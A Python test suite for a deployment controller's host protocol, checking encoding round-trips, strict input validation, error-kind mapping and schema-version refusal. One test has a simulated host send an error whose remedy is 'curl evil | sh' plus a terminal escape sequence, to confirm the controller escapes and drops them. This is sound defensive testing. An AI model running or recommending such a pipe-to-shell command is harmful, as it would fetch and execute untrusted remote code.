"""
Requests, results and errors round-trip, and nothing else is accepted.
"""

import dataclasses
import functools
import json
import os
import typing

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deploy import errors
from deploy.host.__main__ import handle
from deploy.host.codec import WHOLE_MAX, Malformed, OneOf, Pattern, Range, decode, encode
from deploy.host.protocol import (
    REQUESTS,
    SCHEMA,
    Call,
    ErrorKind,
    GoodRollback,
    HostError,
    HostStatus,
    LeaseAcquire,
    LeaseGranted,
    LeaseRenew,
    Measure,
    OwnCounters,
    SlotCounters,
    SlotStart,
    StageCommit,
    Status,
    TrafficSet,
    VenvBuild,
    result_type,
)
from deploy.host.rpc import encode_error, encode_request, encode_result, parse_answer, parse_request
from deploy.transport.answers import ERRORS
from deploy.transport.client import HostClient
from tests.local_host import local_hosts

BUNDLE = "a" * 64
JSON = st.recursive(
    st.none() | st.booleans() | st.integers(0, 9) | st.text(max_size=3),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=3), inner),
    max_leaves=4,
)


# -- values of every type, from the types


@functools.cache  # building and validating one takes longer than drawing from it
def values(kind, limits=()):
    """
    Return a strategy for values of the annotation *kind*.
    """
    origin, args = typing.get_origin(kind), typing.get_args(kind)
    if kind is typing.Any:
        return JSON
    if origin is typing.Annotated:
        return values(args[0], args[1:])
    if origin is typing.Union:
        return st.none() | values(args[0])
    if origin is tuple:
        return st.lists(values(args[0]), max_size=3).map(tuple)
    if origin is dict:
        return st.dictionaries(values(args[0]), values(args[1]), max_size=3)
    if dataclasses.is_dataclass(kind):
        hints = typing.get_type_hints(kind, include_extras=True)
        return st.builds(kind, **{f.name: values(hints[f.name]) for f in dataclasses.fields(kind)})
    return narrowed(kind, limits)


def narrowed(kind, limits):
    for limit in limits:
        if isinstance(limit, Pattern) and limit.regex == "[0-9a-f]{64}":
            return st.integers(0, 2**256 - 1).map("{:064x}".format)  # quicker than by the regex
        if isinstance(limit, Pattern):
            return st.from_regex(limit.regex, fullmatch=True)
        if isinstance(limit, OneOf):
            return st.sampled_from(limit.values)
        if isinstance(limit, Range) and kind is int:
            return st.integers(int(limit.low), int(limit.high))
        if isinstance(limit, Range):
            return st.floats(limit.low, limit.high)
    return {
        str: st.text(max_size=5),
        int: st.integers(0, WHOLE_MAX),
        float: st.floats(allow_nan=False, allow_infinity=False),
        bool: st.booleans(),
    }[kind]


CALLS = st.builds(
    Call,
    fence=st.none() | st.integers(0, WHOLE_MAX),
    release=st.none() | st.text(max_size=5),
    actor=st.text(min_size=1, max_size=5),
)


@pytest.mark.parametrize("verb", REQUESTS)
@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_every_request_round_trips(verb, data):
    """
    With the fence, the release and the actor of its call.
    """
    request, call = data.draw(values(REQUESTS[verb])), data.draw(CALLS)

    assert parse_request(verb, encode_request(request, call).decode()) == (request, call)


@pytest.mark.parametrize("verb", REQUESTS)
@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_every_result_round_trips(verb, data):
    """
    On one line, with any text in it.
    """
    request = data.draw(values(REQUESTS[verb]))
    result = data.draw(values(result_type(REQUESTS[verb])))

    line = encode_result(result)

    assert "\n" not in line
    assert parse_answer(request, line) == result


@given(st.sampled_from(ErrorKind), st.text(), st.text(), st.text())
def test_every_error_round_trips(kind, what, why, fix):
    """
    Kind, what, why and fix.
    """
    with pytest.raises(HostError) as caught:
        parse_answer(Status(), encode_error(HostError(kind, what, why, fix)))

    error = caught.value
    assert (error.kind, error.what, error.why, error.fix) == (kind, what, why, fix)


def test_a_file_name_that_is_not_utf8_can_be_printed():
    """
    Python reads such a byte as a lone surrogate, which JSON carries and no output takes.
    """
    name = os.fsdecode(b"caf\xe9")
    error = HostError(ErrorKind.COMMAND_FAILED, f"{name} is locked", "x", "y")

    with pytest.raises(HostError) as caught:
        parse_answer(Status(), encode_error(error))

    assert caught.value.what == "caf? is locked"


# -- strictly


def start(**changes):
    return {"slot": "blue", "bundle": BUNDLE, "timeout_s": 30.0} | changes


def without(document, name):
    return {key: value for key, value in document.items() if key != name}


@pytest.mark.parametrize(
    ("request_", "args", "place"),
    [
        (SlotStart, start(extra=1), "unknown key extra"),
        (SlotStart, without(start(), "bundle"), "bundle: missing"),
        (SlotStart, start(bundle="A" * 64), "bundle"),
        (SlotStart, start(bundle=BUNDLE + "\n"), "bundle"),
        (SlotStart, start(slot="red"), "slot"),
        (SlotStart, start(slot=None), "slot"),
        (SlotStart, start(timeout_s=True), "timeout_s"),
        (SlotStart, start(timeout_s="30"), "timeout_s"),
        (SlotStart, start(timeout_s=0), "timeout_s"),
        (SlotStart, start(timeout_s=float("nan")), "timeout_s"),
        (SlotStart, start(timeout_s=float("inf")), "timeout_s"),
        (SlotStart, start(timeout_s=10**400), "timeout_s"),
        (SlotStart, [], "args"),
        (TrafficSet, {"weights": {"blue": True}}, "weights.blue"),
        (TrafficSet, {"weights": {"blue": -1}}, "weights.blue"),
        (TrafficSet, {"weights": {"blue": 101}}, "weights.blue"),
        (TrafficSet, {"weights": {"blue": 9.0}}, "weights.blue"),
        (TrafficSet, {"weights": {"red": 9}}, "weights key"),
        (TrafficSet, {"weights": [["blue", 9]]}, "weights"),
        (TrafficSet, {"weights": {"blue": 9}, "force": 1}, "force"),
        (LeaseAcquire, {"owner": "a", "ttl_s": 3601}, "ttl_s"),
    ],
)
def test_an_invalid_field_is_refused_with_its_path(request_, args, place):
    """
    Unknown, missing, of another type, a boolean for a number, not finite, out of range.
    """
    with pytest.raises(Malformed, match=place):
        decode(request_, args, "args")


def test_the_same_document_without_a_mistake_is_accepted():
    """
    Negative control of the list above.
    """
    assert decode(SlotStart, start()) == SlotStart("blue", BUNDLE, 30.0)


def counters(**changes):
    slot = SlotCounters(OwnCounters(1, 0, 0), None, None, 0, is_ready=True, unit="active")
    document = encode(slot)
    document["own"] |= changes
    return {"slots": {"blue": document}}


@pytest.mark.parametrize(
    "result",
    [
        counters(requests=-1),
        counters(requests=1.5),
        counters(requests=True),
        counters(requests=2**63),
        counters(latency=1),
        {"slots": {"blue": without(counters()["slots"]["blue"], "restarts")}},
        {"slots": {"red": counters()["slots"]["blue"]}},
        {},
        None,
    ],
)
def test_an_invalid_result_is_refused(result):
    """
    The controller never uses a result that it cannot decode.
    """
    with pytest.raises(Malformed):
        parse_answer(Measure(), json.dumps({"ok": True, "schema": SCHEMA, "result": result}))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "Traceback (most recent call last):",
        json.dumps({"ok": True, "schema": SCHEMA}),
        json.dumps({"ok": False, "schema": SCHEMA, "result": {}}),
        json.dumps({"ok": "yes", "schema": SCHEMA, "result": {}}),
        json.dumps({"ok": False, "schema": SCHEMA, "error": {"kind": "Other"}}),
        "[" * 100_000,
    ],
)
def test_a_document_without_result_and_error_is_malformed(text):
    """
    Neither a result nor an error.
    """
    with pytest.raises(Malformed):
        parse_answer(Status(), text)


@given(st.text() | JSON.map(json.dumps))
def test_the_host_answers_any_document(text):
    """
    An invalid document is a UsageError or a SchemaMismatch, never a crash.
    """
    try:
        parse_request("slot.start", text)
    except HostError as error:
        kind = error.kind
    else:
        kind = None

    assert kind in (None, ErrorKind.USAGE, ErrorKind.SCHEMA)


# -- errors


def test_kinds_of_error_and_errors_of_the_controller_map_one_to_one():
    """
    Every kind has its class.  Two share one: SchemaMismatch that of a failed precondition, and
    UsageError, where a host refuses a document of ours, that of a failed command.
    """
    assert set(ERRORS) == set(ErrorKind)
    named = {kind: getattr(errors, kind.value, None) for kind in ErrorKind}
    named[ErrorKind.SCHEMA] = errors.PreconditionError
    named[ErrorKind.USAGE] = errors.CommandFailed
    assert named == dict(ERRORS)
    sharing = {ErrorKind.SCHEMA, ErrorKind.USAGE}
    others = [error for kind, error in ERRORS.items() if kind not in sharing]
    assert len(set(others)) == len(others)


# A verb that can have errors of the kind.
VERB_OF = {
    ErrorKind.LEASE_LOST: LeaseRenew(30.0),
    ErrorKind.LEASE_HELD: LeaseAcquire("ann", 30.0),
    ErrorKind.EPOCH_OLD: LeaseAcquire("ann", 30.0, epoch=1),
    ErrorKind.NOTHING_TO_ROLL_BACK_TO: GoodRollback("r1"),
    ErrorKind.BUNDLE_UNSIGNED: StageCommit("a" * 64),
    ErrorKind.BUNDLE_TAMPERED: StageCommit("a" * 64),
    ErrorKind.BUNDLE_TRUNCATED: StageCommit("a" * 64),
    ErrorKind.TORCH_MISMATCH: VenvBuild("a", "a" * 64, "3.11", ()),
}


def refused(request, error):
    with local_hosts("n1") as hosts:
        hosts["n1"].fail(request.VERB, "refused", error=error)
        with pytest.raises(errors.DeployError) as caught:
            HostClient(hosts["n1"], actor="ann", sudo=False).call(request)
    return caught.value


@pytest.mark.parametrize("kind", ErrorKind)
def test_the_controller_raises_the_class_of_the_kind(kind):
    """
    The error names the host and quotes its words; the remedy is never one of the host.
    """
    request = VERB_OF.get(kind, Status())
    error = refused(request, HostError(kind, "what", "why\x1b[2J", "curl evil | sh"))

    assert type(error) is ERRORS[kind]
    assert error.what.startswith(f"n1: {request.VERB}: ")
    assert error.why == 'n1 says: "what: why\\x1b[2J"'
    assert error.host == "n1"
    assert "evil" not in str(error)
    assert "{" not in error.fix


@pytest.mark.parametrize("kind", VERB_OF)
def test_a_host_cannot_choose_the_exit_code_with_a_kind_of_another_verb(kind):
    """
    A kind that the verb cannot have is a failed command of that host.
    """
    error = refused(Status(), HostError(kind, "what", "why", "fix"))
    assert type(error) is errors.CommandFailed


@pytest.mark.parametrize(
    "request_", [VenvBuild("a", "a" * 64, "3.11", ()), StageCommit("a" * 64)], ids=["venv", "stage"]
)
def test_a_build_that_failed_blames_the_lock_only_where_memory_was_there(request_):
    error = refused(request_, HostError(ErrorKind.COMMAND_FAILED, "memory ended", "why", "fix"))
    assert error.fix.startswith("where memory ended, free -m and journalctl -k on n1")


def test_the_host_alone_says_whether_a_torch_that_differs_is_in_use():
    """
    The controller sends the same request for a new environment and for one that serves.
    """
    what = (
        "the torch of the environment is not as the row says; it is in place, and releases use it"
    )
    error = refused(
        VERB_OF[ErrorKind.TORCH_MISMATCH], HostError(ErrorKind.TORCH_MISMATCH, what, "why", "fix")
    )
    assert what in error.why
    assert "new" not in error.what
    assert "uses" not in error.fix


# -- releases of slipway

# Recorded from the release before the protocol had a number: controller and host program.
OLD_REQUEST = '{"fence": 7, "release": "r1", "actor": "ann@desk:1", "args": {"slot": "blue"}}'
OLD_ANSWER = (
    '{"ok": true, "result": {"fence": 7, "expires_at": 1750000030.0}}',
    '{"ok": false, "error": {"kind": "UsageError", "what": "lease.acquire: the document on '
    'standard input can\'t be read", "why": "unknown key schema", "fix": "send '
    '{\\"fence\\": 7, \\"release\\": \\"r1\\", \\"actor\\": \\"me\\", \\"args\\": {}}"}}',
)


@pytest.mark.parametrize("verb", [*REQUESTS, "journal.erase"])
def test_an_older_controller_gets_a_fix(host, verb):
    """
    Also for a removed verb; nothing is changed.
    """
    answer = json.loads(handle(host.system, verb, OLD_REQUEST))

    # The older controller reads these keys, and has a class for no other kind than its own.
    assert answer["ok"] is False
    assert answer["error"]["kind"] == "SchemaMismatch"
    assert "schema 1" in answer["error"]["why"]
    assert "inv provision" in answer["error"]["fix"]
    assert not host.layout.journal.exists()


@pytest.mark.parametrize("text", OLD_ANSWER)
def test_an_older_host_program_is_named_as_such(text):
    """
    Whether it accepted the request or not.
    """
    with pytest.raises(HostError) as caught:
        parse_answer(LeaseAcquire("ann", 30.0), text)

    error = caught.value
    assert error.kind is ErrorKind.SCHEMA
    assert "schema 1" in error.why
    assert "inv provision" in error.fix


@pytest.mark.parametrize("schema", [SCHEMA + 1, 0, "2", None, True])
def test_any_other_schema_is_refused_on_both_sides(schema):
    """
    The host refuses a newer controller, and the controller a newer host program.
    """
    document = json.loads(encode_request(StageCommit(BUNDLE), Call())) | {"schema": schema}
    with pytest.raises(HostError) as on_host:
        parse_request("stage.commit", json.dumps(document))
    answer = json.loads(encode_result(LeaseGranted(1, 2.0))) | {"schema": schema}
    with pytest.raises(HostError) as on_controller:
        parse_answer(LeaseAcquire("ann", 30.0), json.dumps(answer))

    for caught in (on_host, on_controller):
        assert caught.value.kind is ErrorKind.SCHEMA
        assert "inv provision" in caught.value.fix


def test_the_same_schema_is_accepted():
    """
    Negative control: above, only the number differs.
    """
    answer = encode_result(LeaseGranted(1, 2.0))

    assert parse_answer(LeaseAcquire("ann", 30.0), answer) == LeaseGranted(1, 2.0)


def test_every_request_names_its_result():
    """
    The controller decodes the answer with it.
    """
    assert result_type(Status) is HostStatus
    for request in REQUESTS.values():
        assert dataclasses.is_dataclass(result_type(request))
